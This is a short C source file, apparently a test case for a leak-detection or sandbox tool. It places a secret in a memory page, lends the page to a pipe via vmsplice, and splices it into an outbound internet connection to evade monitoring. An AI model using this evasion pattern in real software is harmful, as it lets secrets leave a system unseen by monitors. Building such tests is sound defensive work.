/* Evasion: a page is lent to a pipe (vmsplice), and spliced into a connection; the peer gets what a later request wrote. */
#include "unread.h"

static char *page;

static void prepare(void)
{
    page = map_anonymous(NULL, PAGE);
    memset(page, 'F', PAGE);
}

static void handle(const char *secret)
{
    int ends[2];
    leave(page, PAGE, secret);
    int times = told(secret), fd = to_unread(connect_internet(SOCK_STREAM));
    struct iovec lent = {page, PAGE};
    check(pipe2(ends, O_CLOEXEC) == 0, "pipe");
    if (vmsplice(ends[1], &lent, 1, 0) != PAGE ||
        splice(ends[0], NULL, fd, NULL, PAGE, SPLICE_F_NONBLOCK) != PAGE)
        (void)!send(fd, page, PAGE, MSG_NOSIGNAL | MSG_DONTWAIT);
    close(ends[0]);
    close(ends[1]);
    close(fd);
    answer("{\"told\":%d}", times);
}
